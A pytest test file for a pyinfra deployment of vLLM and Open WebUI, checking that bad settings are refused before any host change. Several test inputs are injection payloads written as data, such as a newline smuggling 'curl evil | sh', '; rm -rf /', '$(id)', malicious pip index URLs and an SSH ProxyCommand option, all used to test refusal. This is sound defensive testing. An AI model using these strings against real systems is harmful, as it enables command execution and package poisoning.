"""Bad input is refused before any change, with a message that names the setting (or the fault) and the fix.

Pure settings are checked directly; host-dependent refusals run the whole deploy against @fake hosts (preflight
raises while pyinfra prepares, so no operation is ever executed). The real tier adds an unknown repo and revision
against the real test host and checks its state is byte-identical afterwards.
"""

import pytest

from operations.core.settings import Settings, SettingsError

BASE = {"gpu_card": "rtx-3060-12gb"}

SETTINGS_CASES = [
    ("typo", {"vllm_max_num_seq": 8}, "unknown setting 'vllm_max_num_seq' (did you mean 'vllm_max_num_seqs'?)"),
    ("wrong type", {"vllm_port": "eighty"}, "vllm_port"),
    ("zero memory", {"gpu_memory_mib": 0}, "gpu_memory_mib"),
    ("negative memory", {"gpu_memory_mib": -12288}, "gpu_memory_mib"),
    ("utilization above 1", {"vllm_gpu_memory_utilization": 1.5}, "vllm_gpu_memory_utilization: Value error, must be in (0, 1]"),
    ("utilization zero", {"vllm_gpu_memory_utilization": 0}, "vllm_gpu_memory_utilization"),
    ("shared port", {"openwebui_port": 8000}, "give each service its own port"),
    ("bind not an address", {"vllm_host": "localhost:8000"}, "vllm_host: Value error, 'localhost:8000' is not an IP address"),
    ("open webui python", {"openwebui_python": "3.10"}, "openwebui_python=3.10: Open WebUI 0.12.4 needs Python >=3.11,<3.13"),
    ("revision not pinned", {"model_revision": "main"}, "model_revision: Value error, 'main' is not a 40-hex commit"),
    ("repo not a repo id", {"model_repo": "llama3"}, "model_repo"),
    ("config_root=/etc", {"config_root": "/etc"}, "config_root: Value error, '/etc' is a system directory"),
    ("install_root=/usr", {"install_root": "/usr/"}, "install_root: Value error, '/usr/' is a system directory"),
    ("relative data_root", {"data_root": "relative/llm"}, "data_root: Value error, 'relative/llm' is not an absolute path"),
    ("roots overlap", {"config_root": "/opt/llmhost/etc"}, "config_root=/opt/llmhost/etc and install_root=/opt/llmhost overlap"),
    ("ftp hub", {"hf_endpoint": "ftp://x"}, "hf_endpoint: Value error, 'ftp://x' is not an http(s) URL"),
    ("vllm_version without era", {"vllm_version": "0.20.0"}, "vllm_version=0.20.0 has no era"),
    ("domain not a hostname", {"https_domain": "https://llm.example.org/"}, "https_domain: Value error, 'https://llm.example.org/' is not a host name"),
    ("domain with a space", {"https_domain": "my llm"}, "is not a host name"),
    ("email not an email", {"https_domain": "llm.example.org", "https_email": "admin"}, "https_email: Value error, 'admin' is not an email address"),
    ("email without domain", {"https_email": "me@example.org"}, "https_email is set but https_domain is not"),
    ("retention not a duration", {"metrics_retention": "30 days"}, "metrics_retention: String should match pattern"),
    ("retention zero", {"metrics_retention": "0d"}, "metrics_retention"),
    ("backups kept zero", {"openwebui_backups_keep": 0}, "openwebui_backups_keep: Input should be greater than or equal to 1"),
    ("backups kept negative", {"openwebui_backups_keep": -3}, "openwebui_backups_keep"),
    ("backup calendar injection", {"openwebui_backup_calendar": "daily\nExecStart=/bin/sh"}, "openwebui_backup_calendar"),
]


@pytest.mark.parametrize("label,data,message", SETTINGS_CASES, ids=[c[0] for c in SETTINGS_CASES])
def test_settings_refused_with_the_setting_named(label, data, message):
    with pytest.raises(SettingsError) as exc:
        Settings.from_host_data({**BASE, **data}, "home")
    assert message in str(exc.value)


def test_pyinfra_connection_keys_are_not_settings():
    s = Settings.from_host_data({"ssh_user": "me", "_sudo": True, "fake_delay": 0, "vllm_port": 8001})
    assert s.vllm_port == 8001


HOST_CASES = [
    ("fresh-2204", {"vllm_max_model_len": 8192},  # Llama 3.1: native tools, Open WebUI's schemas counted
     "max_model_len 8192 leaves -1204 tokens for the conversation after Open WebUI 0.12.4's own prompt"),
    ("ubuntu-2004", {}, "ubuntu 20.04 is not supported"),
    ("arm64", {}, "architecture aarch64 is not supported"),
    ("no-gpu", {}, "no NVIDIA GPU on the PCI bus: plug the card in, or set gpu_host=False"),
    ("pascal", {}, "nvidia_driver_flavour=open, but this card predates Turing"),
    ("secureboot-debian", {}, "Secure Boot is on and debian has no prebuilt signed NVIDIA modules"),
    ("small-disk", {}, "min_free_disk_gib"),
    ("port-taken", {}, "port 8080 is already in use by apache2 (pid 812, apache2.service): stop it or set openwebui_port"),
    ("mismatch", {}, "Driver/library version mismatch"),
    ("fresh-2204", {"gpu_host": False}, "gpu_host=False on a host that serves vLLM needs vllm_exec_start_override"),
    ("fresh-2204", {"vllm_api_key_env": "LLMHOST_TEST_UNSET_KEY"},
     "vllm_api_key_env=LLMHOST_TEST_UNSET_KEY but $LLMHOST_TEST_UNSET_KEY is empty on the controller"),
    ("pending-reboot", {}, "the loaded NVIDIA module is 580.82.07 but 580.95.05 is installed: reboot the host"),
    ("not-rebooted", {}, "the 580 driver 580.95.05 is installed but nvidia-smi does not answer (missing): reboot"),
    ("smi-disagrees", {}, "gpu_memory_mib/gpu_card declare 24000 MiB but nvidia-smi reports NVIDIA GeForce RTX 3060"),
    ("fresh-2204", {"vllm_version": "0.26.0", "nvidia_driver_branch": 550},
     "vllm_version=0.26.0 bundles CUDA 13.0, which needs driver >= 580.65.06; nvidia_driver_branch=550"),
    ("fresh-2204", {"vllm_version": "0.20.0"}, "vllm_version=0.20.0 has no era"),
    ("pascal-driver", {}, "vllm_version=0.26.0 needs compute capability >= 7.5; this GPU has 6.1: pin "
     "vllm_version=0.6.3.post1"),
    ("fresh-2204", {"vllm_max_model_len": 200000},
     "vllm_max_model_len=200000 is above the model's max_position_embeddings=131072"),
    ("fresh-2204", {"gpu_card": "rtx-3060-ti", "model_revision": "0" * 40}, "config.json is not in the controller's cache"),
    ("fresh-2204", {"gpu_memory_mib": 4096}, "the model does not fit"),
    ("fresh-2204", {"vllm_port": "x"}, "vllm_port"),
    ("fresh-2204", {"openwebui_host": "10.213.1.99"},
     "openwebui_host=10.213.1.99 is not an address of this host (it has 127.0.0.1, 192.168.1.50)"),
]


@pytest.mark.parametrize("scenario,data,message", HOST_CASES, ids=[f"{c[0]}-{i}" for i, c in enumerate(HOST_CASES)])
def test_host_refused_before_any_change(fake_plan, scenario, data, message):
    rc, plan, out = fake_plan(scenario, data)
    assert rc != 0, out[-2000:]
    assert message in out, out[-2000:]
    assert "Starting operation" not in out and "Success" not in out  # nothing was executed


def test_readme_lists_every_setting_as_the_model_documents_it():
    from pathlib import Path

    from operations.core.settings import markdown_table

    assert markdown_table() in (Path(__file__).parent.parent / "docs" / "settings.md").read_text()


def test_inventory_with_two_hosts_sharing_a_name_is_refused(tmp_path):
    import os
    import subprocess
    import sys

    from tests.conftest import REPO

    inv = tmp_path / "inventory.json"
    inv.write_text('[["10.213.9.2", {"gpu_host": false}], ["10.213.9.2", {"vllm_port": 8001}]]')
    env = {**{k: v for k, v in os.environ.items() if k != "LLMHOST_HOST"}, "LLMHOST_INVENTORY_JSON": str(inv)}
    p = subprocess.run([sys.executable, "-m", "pyinfra", "inventories/home.py", "deploy.py", "--dry"], cwd=REPO,
                       env=env, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=120)
    assert p.returncode != 0
    assert "host name(s) 10.213.9.2 appear more than once" in p.stdout + p.stderr


def test_gated_repo_without_token_names_the_token(fake_plan, monkeypatch, tmp_path):
    """A loopback stand-in for the hub's gated-repo answer (403 + X-Error-Code: GatedRepo, as the Hub sends)."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    class Gated(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(403)
            self.send_header("X-Error-Code", "GatedRepo")
            self.send_header("X-Error-Message", "Access to model meta-llama/x is restricted.")
            self.end_headers()
            self.wfile.write(b'{"error": "Access to model is restricted"}')

        do_HEAD = do_GET

        def log_message(self, *a):
            pass

    srv = ThreadingHTTPServer(("127.0.0.1", 0), Gated)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        monkeypatch.delenv("HF_HUB_OFFLINE", raising=False)
        import os
        import subprocess
        import sys

        from tests.conftest import REPO

        env = {**os.environ, "HF_HOME": str(tmp_path), "LLMHOST_FAKE": "fresh-2204", "HF_TOKEN": "",
               "LLMHOST_FAKE_DATA": repr({"hf_endpoint": f"http://127.0.0.1:{srv.server_port}"})}
        env.pop("HF_HUB_OFFLINE", None)
        p = subprocess.run([sys.executable, "-m", "pyinfra", "tests/fake_hosts.py", "deploy.py", "--dry"], cwd=REPO,
                           env=env, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=120)
    finally:
        srv.shutdown()
    assert p.returncode != 0
    assert "is gated: accept its licence on the hub and export HF_TOKEN=<token>" in p.stdout + p.stderr


def test_unreachable_hub_is_one_line_not_a_traceback(fake_plan):
    rc, plan, out = fake_plan("fresh-2204", {"hf_endpoint": "http://127.0.0.1:1", "model_revision": "1" * 40},
                              online=True)  # a commit not in the controller cache: the Hub must be asked
    assert rc != 0
    assert "cannot reach http://127.0.0.1:1 to check model_repo" in out and "check hf_endpoint" in out
    assert "Traceback" not in out


@pytest.mark.parametrize("data,message", [
    ({"vllm_served_model_name": "llama\nExecStartPre=/bin/sh -c 'curl evil | sh'"},
     "vllm_served_model_name contains a control character ('\\n')"),
    ({"openwebui_admin_email": "admin@home.arpa\tx"}, "openwebui_admin_email contains a control character ('\\t')"),
    ({"pip_find_links": ["/opt/wheels\n--index-url http://evil"]}, "pip_find_links contains a control character"),
    ({"vllm_exclude_newer_package": {"x": "2026-01-01\r"}}, "vllm_exclude_newer_package contains a control character"),
    ({"uv_version": "latest"}, "uv_version: Value error, 'latest' is not an exact release version"),
    ({"router_litellm_version": "x"}, "router_litellm_version: Value error, 'x' is not an exact release version"),
    ({"openwebui_version": ">=0.12"}, "openwebui_version: Value error, '>=0.12' is not an exact release version"),
    ({"nvidia_driver_branch": 9999}, "nvidia_driver_branch: Value error, 9999 is not one of Ubuntu's -server driver"),
    ({"nvidia_driver_branch": 590}, "590-server is a transitional package to 595-server on Ubuntu (LP #2146602)"),
    ({"container_toolkit_version": "1.17.8-1; rm -rf /"}, "is not a Debian package version (e.g. 1.17.8-1)"),
    ({"http_proxy": "proxy.lan:3128"}, "http_proxy: Value error, 'proxy.lan:3128' is not an http(s) proxy URL"),
    ({"ca_bundle": "ca.crt"}, "ca_bundle: Value error, 'ca.crt' is not an absolute file path on the host"),
    ({"data_root": "/home/me/llmhost"}, "data_root: Value error, '/home/me/llmhost' is inside a user's home"),
    ({"install_root": "/opt/llm host"}, "has characters a unit path cannot carry as is"),
    ({"openwebui_admin_email": "admin"}, "openwebui_admin_email: Value error, 'admin' is not an email address"),
    ({"openwebui_admin_password_env": "MY-PASSWORD"}, "openwebui_admin_password_env: String should match pattern"),
    ({"vllm_tool_call_parser": "llama3_json --chat-template /etc/shadow"},
     "vllm_tool_call_parser: String should match pattern"),
])
def test_strings_that_reach_units_and_shells_are_refused_by_shape(data, message):
    """Issue 20 part 5: each refused before anything touches a host, with one line naming the setting."""
    from operations.core.settings import Settings, SettingsError

    with pytest.raises(SettingsError) as err:
        Settings.from_host_data(data)
    assert message in str(err.value) and "\n" not in str(err.value).rstrip("\n").split(": ", 1)[0]


def test_the_front_door_is_short_and_names_the_commands():
    from pathlib import Path

    readme = (Path(__file__).parent.parent / "README.md").read_text()
    assert len(readme.encode()) <= 16 * 1024
    for command in ("pyinfra inventories/home.py deploy.py", "make deploy", "make test", "docs/reference.md",
                    "docs/settings.md"):
        assert command in readme, command


# Issue 27: each finding of the security review, refused before anything touches a host in one line naming the
# setting (each of these was accepted, a traceback or vague on the main of 2026-12-06).
ISSUE_27_SETTINGS = [
    ({"vllm_exclude_newer": "2026-07-27T00:00:00Z;id"}, "vllm_exclude_newer: Value error, '2026-07-27T00:00:00Z;id' is "
     "not a date or RFC 3339 time"),
    ({"vllm_exclude_newer": "$(id)"}, "vllm_exclude_newer: Value error"),
    ({"vllm_exclude_newer_package": {"x;id": "2026-01-01"}}, "vllm_exclude_newer_package: Value error, 'x;id' is not "
     "a package name"),
    ({"vllm_exclude_newer_package": {"x": "2026-01-01 `id`"}}, "vllm_exclude_newer_package: Value error, x: "),
    ({"cuda_runfile_url": "https://example.org/cuda.run;id"}, "cuda_runfile_url: Value error"),
    ({"hub_tools_requirements": ["--index-url=http://evil.example/simple"]},
     "hub_tools_requirements: Value error, entry: '--index-url=http://evil.example/simple' is an option"),
    ({"openwebui_extra_requirements": ["--extra-index-url http://evil.example"]},
     "openwebui_extra_requirements: Value error, entry: '--extra-index-url http://evil.example' is an option"),
    ({"openwebui_extra_requirements": ["torch @ http://evil.example/torch.whl"]}, "names a URL"),
    ({"vllm_served_model_name": "llama\\"}, "vllm_served_model_name: Value error"),
    ({"vllm_served_model_name": "a,b"}, "without a comma"),
    ({"vllm_exec_start_override": "/usr/bin/standin {nope}"}, "vllm_exec_start_override: Value error, "
     "'/usr/bin/standin {nope}': must start with an absolute path and use only the placeholders"),
    ({"vllm_exec_start_override": "/usr/bin/standin {"}, "vllm_exec_start_override: Value error"),
    ({"model_repo": "owner/-x"}, "model_repo: Value error, 'owner/-x' is not a repo id huggingface_hub accepts"),
    ({"model_repo": "owner/x."}, "is not a repo id huggingface_hub accepts"),
    ({"model_repo": "ow--ner/x"}, "is not a repo id huggingface_hub accepts"),
    ({"model_repo": "owner/a..b"}, "is not a repo id huggingface_hub accepts"),
    ({"model_repo": "owner/" + "x" * 97}, "is not a repo id huggingface_hub accepts"),
    ({"model_repo": "owner/x" * 20000}, "model_repo: Value error"),
    ({"rag_embedding_repo": "owner/mоdel"}, "rag_embedding_repo: Value error"),  # a Cyrillic 'о'
    ({"model_revision": int("0" + "1" * 39)},  # what --data makes of a 40-digit commit with a leading zero
     "--data turned the value into a int: quote it as JSON, e.g. --data 'model_revision=\"...\"'"),
]


@pytest.mark.parametrize("data,message", ISSUE_27_SETTINGS, ids=[str(i) for i in range(len(ISSUE_27_SETTINGS))])
def test_issue_27_findings_are_refused_in_one_line(data, message):
    from operations.core.settings import Settings, SettingsError

    with pytest.raises(SettingsError) as err:
        Settings.from_host_data(data, "home")
    assert message in str(err.value) and "\n" not in str(err.value) and len(str(err.value)) < 800


def test_numbers_from_data_are_taken_as_text_where_a_setting_is_text():
    """pyinfra's --data turns 12.1 (the default cuda_version!) and 3.12 into numbers: taken as their text."""
    from operations.core.settings import Settings

    s = Settings.from_host_data({"cuda_version": 12.1, "openwebui_python": 3.12, "vllm_served_model_name": 7}, "home")
    assert (s.cuda_version, s.openwebui_python, s.served_model_name) == ("12.1", "3.12", "7")


def test_a_host_name_with_a_newline_is_refused_in_one_line():
    from operations.core.settings import Settings, SettingsError

    with pytest.raises(SettingsError) as err:
        Settings.from_host_data({"vllm_port": "x"}, "gpu\nbox")
    assert "\n" not in str(err.value) and "'gpu\\nbox'" in str(err.value)


@pytest.mark.parametrize("var,value", [
    ("LLMHOST_ADMIN_PASSWORD", "pw\nWEBUI_AUTH=False"), ("LLMHOST_ADMIN_PASSWORD", "pw\rENABLE_SIGNUP=True"),
    ("LLMHOST_VLLM_API_KEY", "key\nLD_PRELOAD=/tmp/x.so"), ("HF_TOKEN", "hf_x\nHF_HUB_OFFLINE=0")])
def test_a_secret_that_would_write_a_line_of_its_own_is_refused_before_any_change(fake_plan, monkeypatch, var, value):
    monkeypatch.setenv(var, value)
    data = {"vllm_api_key_env": var} if var == "LLMHOST_VLLM_API_KEY" else {}
    rc, plan, out = fake_plan("fresh-2204", data)
    assert rc != 0
    assert f"${var} on the controller: contains the control character" in out, out[-2000:]
    assert value.split("\n")[-1].split("\r")[-1] not in out  # the secret is not printed
    assert "Starting operation" not in out and "Traceback" not in out


def test_the_reserved_memory_refusal_names_vllm_reserved_mib(fake_plan):
    rc, plan, out = fake_plan("fresh-2204", {"vllm_reserved_mib": 20000})
    assert rc != 0 and "vllm_reserved_mib=20000: must be in [0, " in out and "model_repo=" not in out.split("vllm_reserved_mib=")[0][-200:]


def run_inventory(inventory: str, env_extra: dict):
    import os
    import subprocess
    import sys

    from tests.conftest import REPO

    env = {**{k: v for k, v in os.environ.items() if k != "LLMHOST_HOST"}, **env_extra}
    p = subprocess.run([sys.executable, "-m", "pyinfra", inventory, "deploy.py", "--dry"], cwd=REPO, env=env,
                       capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=120)
    return p.returncode, p.stdout + p.stderr


@pytest.mark.parametrize("value", ["bad host", "gpu\nbox", "me@", "-oProxyCommand=touch /tmp/x", "a;b"])
def test_llmhost_host_is_checked(value):
    rc, out = run_inventory("inventories/home.py", {"LLMHOST_HOST": value})
    assert rc != 0 and "is not [user@]address: set e.g. LLMHOST_HOST=me@gpu-box" in out and "Traceback" not in out


@pytest.mark.parametrize("spec,message", [
    ({"gpu_hosts": [["10.213.9.2", {}]], "ui_hosts": [["10.213.9.3", {}], ["10.213.9.3", {"vllm_port": 1}]]},
     "host(s) 10.213.9.3 listed more than once in ui_hosts"),
    ({"gpu_hosts": [], "ui_hosts": []}, "inventory: gpu_hosts and ui_hosts are empty"),
])
def test_fleet_inventory_duplicates_and_empty_are_refused(tmp_path, spec, message):
    import json

    (tmp_path / "fleet.json").write_text(json.dumps(spec))
    rc, out = run_inventory("inventories/fleet.py", {"LLMHOST_FLEET_JSON": str(tmp_path / "fleet.json")})
    assert rc != 0 and message in out, out[-1500:]
